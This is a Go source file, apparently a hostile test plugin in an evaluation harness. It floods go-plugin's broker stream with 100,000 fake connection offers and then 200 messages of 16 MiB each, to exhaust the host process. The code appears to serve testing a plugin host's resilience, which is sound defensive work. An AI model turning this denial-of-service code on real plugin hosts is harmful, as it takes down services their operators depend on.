// Command broker-flood floods go-plugin's broker stream, which the plugin
// side serves and the judge reads: a hundred thousand connection offers,
// then offers of 16 MiB each. go-plugin's host answers every offer with a
// goroutine that waits 5 s for it to be dialled.
package main

import (
	"bytes"
	"context"

	"google.golang.org/grpc"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/wrapperspb"

	"github.com/hackarena/hackarena/plugins/hostile/internal/attack"
	"github.com/hackarena/hackarena/plugins/hostile/internal/rawengine"
)

// flood replaces go-plugin's broker stream handler: it sends messages
// whose wire form go-plugin reads as connection offers (field 1 is the
// service id; a string there is kept as an unknown field), and never
// serves the broker itself.
func flood(srv any, ss grpc.ServerStream, info *grpc.StreamServerInfo, handler grpc.StreamHandler) error {
	if info.FullMethod != "/plugin.GRPCBroker/StartStream" {
		return handler(srv, ss)
	}
	sent := 0
	defer func() { attack.Report("broker_messages_sent", sent) }()
	for i := 0; i < 100_000; i++ {
		if err := ss.SendMsg(wrapperspb.UInt32(uint32(1000 + i))); err != nil {
			return err
		}
		sent++
	}
	big := wrapperspb.Bytes(bytes.Repeat([]byte{'b'}, 16<<20))
	for i := 0; i < 200; i++ {
		if err := ss.SendMsg(proto.Message(big)); err != nil {
			return err
		}
		sent++
	}
	<-ss.Context().Done()
	return nil
}

func main() {
	rawengine.ServeWith("broker-flood", func(context.Context, *rawengine.Engine) error { return nil },
		rawengine.Options{Server: []grpc.ServerOption{grpc.ChainStreamInterceptor(flood)}})
}
